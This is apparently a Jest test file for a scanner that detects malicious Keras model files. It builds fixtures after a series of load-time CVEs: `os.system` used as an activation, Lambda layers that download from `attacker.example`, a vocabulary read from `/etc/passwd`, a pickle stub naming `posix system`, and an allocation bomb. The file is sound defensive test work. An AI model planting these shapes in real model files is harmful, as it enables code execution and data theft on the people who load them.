/* eslint jest/expect-expect: ["warn", { "assertFunctionNames": ["expect*"] }] */
/**
 * One generator per Keras 3 safe_mode bypass and load-time CVE (2024–2026), each shaped as its
 * advisory or write-up describes it, with a harmless payload, carried as a `.keras` archive (or
 * the legacy `.h5` where that is the CVE). Each asserts the rule that names the mechanism;
 * docs/detection.md lists the same table. The keras version check (DEP-KERAS-SAFE-MODE-BYPASS)
 * covers every ID below as well.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  buildZip,
  isBlocking,
  scanBytes,
  summary,
} from './__testUtils__/helpers';

const MODEL_FIXTURES = join(
  __dirname,
  '../../../packages/scanner/src/formats/models',
);

const fn = (module: string, name: string) => ({
  module,
  class_name: 'function',
  config: name,
  registered_name: 'function',
});

/** A Lambda whose `function` is a reference (not bytecode), called with `arguments` on load. */
const lambdaCalling = (
  fnRef: object,
  args: Record<string, unknown>,
  inputs = 'x',
) => ({
  module: 'keras.layers',
  class_name: 'Lambda',
  config: { name: 'gadget', function: fnRef, arguments: args },
  inbound_nodes: [{ args: [], kwargs: { inputs } }],
});

const functional = (...layers: object[]) => ({
  module: 'keras.src.models.functional',
  class_name: 'Functional',
  config: {
    name: 'model',
    layers: [
      {
        module: 'keras.layers',
        class_name: 'InputLayer',
        config: { batch_shape: [null, 4], name: 'in' },
      },
      ...layers,
    ],
  },
  registered_name: 'Functional',
});

const kerasArchive = (config: object, weights = new Uint8Array(16)) =>
  buildZip({
    entries: [
      {
        name: 'metadata.json',
        data: JSON.stringify({ keras_version: '3.10.0' }),
      },
      { name: 'config.json', data: JSON.stringify(config), method: 'deflate' },
      { name: 'model.weights.h5', data: weights },
    ],
  });

interface KerasCve {
  cve: string;
  shape: string;
  file: () => [Uint8Array, string];
  rule: string;
  /** A word the message must contain: the mechanism. */
  mentions: string;
  /** Code execution and file access block; the allocation bomb (denial of service) tickets. */
  blocks?: false;
}

const KERAS_CVES: KerasCve[] = [
  {
    cve: 'CVE-2024-3660',
    shape: 'Lambda layer with marshalled bytecode',
    file: () => [
      kerasArchive(
        functional({
          module: 'keras.layers',
          class_name: 'Lambda',
          config: {
            name: 'l',
            function: {
              class_name: '__lambda__',
              config: {
                code: '4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMMAAAAdABkAYMBAQB8AFMAKQJOWgJpZCkB2gRleGVjKQHaAXipAHIDAAAA+gA8bGFtYmRhPgEAAADzAAAAAA==',
                defaults: null,
                closure: null,
              },
            },
          },
        }),
      ),
      'model.keras',
    ],
    rule: 'MODEL-KERAS-LAMBDA',
    mentions: 'bytecode',
  },
  {
    cve: 'CVE-2025-1550',
    shape:
      'config names a function of an arbitrary module (os.system as an activation)',
    file: () => [
      kerasArchive(
        functional({
          module: 'keras.layers',
          class_name: 'Dense',
          config: { name: 'd', units: 4, activation: fn('os', 'system') },
        }),
      ),
      'model.keras',
    ],
    rule: 'MODEL-KERAS-UNSAFE-FUNCTION',
    mentions: 'os.system',
  },
  {
    cve: 'CVE-2025-8747',
    shape: 'Lambda calling keras.utils.get_file to download a file on load',
    file: () => [
      kerasArchive(
        functional(
          lambdaCalling(fn('keras.utils', 'get_file'), {
            origin: 'https://attacker.example/payload',
            cache_dir: '/tmp',
          }),
        ),
      ),
      'model.keras',
    ],
    rule: 'MODEL-KERAS-UNSAFE-FUNCTION',
    mentions: 'get_file',
  },
  {
    cve: 'CVE-2025-9905',
    shape: 'legacy .h5 Lambda, safe_mode ignored',
    file: () => [
      readFileSync(join(MODEL_FIXTURES, '__fixtures__', 'lambda.h5')),
      'model.h5',
    ],
    rule: 'MODEL-KERAS-LAMBDA',
    mentions: 'CVE-2025-9905',
  },
  {
    cve: 'CVE-2025-9906',
    shape: 'config calls enable_unsafe_deserialization, then a Lambda',
    file: () => [
      kerasArchive(
        functional(
          lambdaCalling(
            fn('keras.config', 'enable_unsafe_deserialization'),
            {},
          ),
        ),
      ),
      'model.keras',
    ],
    rule: 'MODEL-KERAS-UNSAFE-FUNCTION',
    mentions: 'enable_unsafe_deserialization',
  },
  {
    cve: 'CVE-2025-9906',
    shape:
      'Lambda calling keras.models.load_model(safe_mode=False) on a second model',
    file: () => [
      kerasArchive(
        functional(
          lambdaCalling(
            fn('keras.models', 'load_model'),
            { safe_mode: false },
            '/tmp/second.keras',
          ),
        ),
      ),
      'model.keras',
    ],
    rule: 'MODEL-KERAS-UNSAFE-FUNCTION',
    mentions: 'load_model',
  },
  {
    cve: 'CVE-2025-12058',
    shape: 'StringLookup vocabulary read from a host file',
    file: () => [
      kerasArchive(
        functional({
          module: 'keras.layers',
          class_name: 'StringLookup',
          config: { name: 'lookup', vocabulary: '/etc/passwd' },
        }),
      ),
      'model.keras',
    ],
    rule: 'MODEL-KERAS-FILE-ACCESS',
    mentions: '/etc/passwd',
  },
  {
    cve: 'CVE-2025-12058',
    shape: 'TextVectorization vocabulary fetched from a URL',
    file: () => [
      kerasArchive(
        functional({
          module: 'keras.layers',
          class_name: 'TextVectorization',
          config: {
            name: 'tv',
            vocabulary: 'https://attacker.example/vocab.txt',
          },
        }),
      ),
      'model.keras',
    ],
    rule: 'MODEL-KERAS-FILE-ACCESS',
    mentions: 'https://attacker.example',
  },
  {
    cve: 'CVE-2025-12060',
    shape:
      'get_file(extract=True) of a tar whose links escape the cache folder',
    file: () => [
      kerasArchive(
        functional(
          lambdaCalling(fn('keras.utils', 'get_file'), {
            origin: 'https://attacker.example/links.tar.gz',
            extract: true,
          }),
        ),
      ),
      'model.keras',
    ],
    rule: 'MODEL-KERAS-UNSAFE-FUNCTION',
    mentions: 'get_file',
  },
  {
    cve: 'CVE-2025-49655',
    shape: 'TorchModuleWrapper rebuilt with torch.load',
    file: () => [
      kerasArchive(
        functional({
          module: 'keras.src.utils.torch_utils',
          class_name: 'TorchModuleWrapper',
          config: { name: 'torch', module: 'gAJjcG9zaXgKc3lzdGVtCg==' },
        }),
      ),
      'model.keras',
    ],
    rule: 'MODEL-KERAS-UNSAFE-FUNCTION',
    mentions: 'TorchModuleWrapper',
  },
  {
    cve: 'CVE-2026-1462',
    shape: 'TFSMLayer loading an attacker-chosen SavedModel',
    file: () => [
      kerasArchive(
        functional({
          module: 'keras.layers',
          class_name: 'TFSMLayer',
          config: { name: 'tfsm', filepath: '/tmp/attacker_savedmodel' },
        }),
      ),
      'model.keras',
    ],
    rule: 'MODEL-KERAS-UNSAFE-FUNCTION',
    mentions: 'TFSMLayer',
  },
  {
    cve: 'CVE-2026-12570',
    shape: 'model.weights.h5 declaring 16 GiB of weights in 5 KB',
    file: () => [
      kerasArchive(
        functional({
          module: 'keras.layers',
          class_name: 'Dense',
          config: { name: 'dense', units: 4 },
        }),
        readFileSync(
          join(MODEL_FIXTURES, 'hdf5', '__fixtures__', 'declared_16gib.h5'),
        ),
      ),
      'model.keras',
    ],
    rule: 'MODEL-HDF5-DECLARED-SIZE',
    mentions: 'CVE-2026-12570',
    blocks: false,
  },
];

describe('Keras 3 safe_mode bypass and load-time CVEs', () => {
  it.each(KERAS_CVES.map(c => [`${c.cve}: ${c.shape}`, c] as const))(
    '%s',
    async (_title, { file, rule, mentions, blocks }) => {
      const [bytes, name] = file();
      const result = await scanBytes(bytes, name);
      const hit = result.findings.find(f => f.ruleId === rule);
      expect({
        rule: hit?.ruleId,
        mentions: hit?.message.includes(mentions),
        blocks: hit ? isBlocking(hit) : undefined,
        got: hit ? [] : summary(result),
      }).toEqual({ rule, mentions: true, blocks: blocks ?? true, got: [] });
    },
  );
});
